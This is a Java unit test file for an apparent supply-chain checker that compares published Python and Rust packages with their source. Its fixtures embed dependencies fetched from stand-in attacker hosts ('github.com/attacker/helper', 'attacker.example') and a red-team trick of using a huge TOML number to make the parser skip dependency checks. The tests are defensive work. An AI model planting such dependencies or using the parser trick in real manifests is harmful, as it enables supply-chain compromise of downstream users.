package dev.divergence.registry.pypi;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.Classifier;
import dev.divergence.model.FileStatus;
import dev.divergence.model.RiskFlag;
import dev.divergence.registry.GeneratedFiles;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * Red team round 4 (case7, case8): a 1,200-digit number, which tomllib and Cargo read, made the TOML parser refuse
 * the whole file, and the dependency checks of Cargo.toml and pyproject.toml silently did not run.
 */
class ManifestParserLimitsTest {

    private static final String LONG = "1." + "0".repeat(1200) + "1";

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void aLongNumberNoLongerHidesACargoGitDependency() {
        String src = "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n\n[dependencies]\npyo3 = \"0.22\"\n";
        String pub = src + "helper = { git = \"https://github.com/attacker/helper\" }\n\n[package.metadata.bench]\n"
                + "threshold = " + LONG + "\n";
        Optional<GeneratedFiles.Decision> d = CargoFiles.manifest(utf8(pub), Optional.of(utf8(src)));
        assertEquals(PypiGeneratedFiles.CARGO_DEPENDENCY, d.orElseThrow().ruleId());
        assertTrue(d.get().flags().contains(RiskFlag.NEW_DEPENDENCY));
    }

    @Test
    void aLongNumberNoLongerHidesAPyprojectDependency() {
        String pub = "[project]\nname = \"demo8\"\nversion = \"1.0.0\"\ndependencies = [\"requests>=2\", "
                + "\"helper @ https://attacker.example/helper-1.0.tar.gz\"]\n\n[tool.demo8]\nthreshold = " + LONG
                + "\nbig = 1" + "0".repeat(1500) + "\n";
        var toml = PythonProject.toml(Optional.of(pub)).orElseThrow();
        assertTrue(PythonProject.pyprojectDependencies(toml).stream().anyMatch(r -> r.name().equals("helper")));
    }

    @Test
    void aCargoManifestOrLockThatDoesNotParseIsHighRiskNotAPlainDifference() {
        String src = "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n";
        for (String file : new String[] {"Cargo.toml", "Cargo.lock"}) {
            byte[] pub = utf8(src + "[dependencies\nhelper = \"1\"\n");
            GeneratedFiles.Decision d = (file.equals("Cargo.toml") ? CargoFiles.manifest(pub, Optional.of(utf8(src)))
                    : CargoFiles.lock(pub, Optional.of(utf8(src)))).orElseThrow();
            assertEquals(PypiGeneratedFiles.MANIFEST_UNREADABLE, d.ruleId(), file);
            assertTrue(Classifier.isHighRisk(d.status(), d.flags()), file);
        }
    }

    @Test
    void aRequiresDistThatDoesNotParseIsHighRisk() {
        // packaging (pip) or pkg_resources may read what this parser refuses: the dependency is unknown
        var artifact = new dev.divergence.model.Artifact("demo-1.0.0.tar.gz", "u", dev.divergence.model.ArtifactKind.SDIST,
                1, java.util.Map.of(), Optional.empty(), false);
        GeneratedFiles.Decision d = new PypiGeneratedFiles.DeclaredDependencies().explain(artifact, "demo-1.0.0/PKG-INFO",
                utf8("Metadata-Version: 2.2\nName: demo\nVersion: 1.0.0\nRequires-Dist: helper @@ ~~ (\n\n"),
                Optional.empty(), "1.0.0", null).orElseThrow();
        assertEquals(PypiGeneratedFiles.MANIFEST_UNREADABLE, d.ruleId());
        assertTrue(Classifier.isHighRisk(FileStatus.PHANTOM, d.flags()));
    }
}
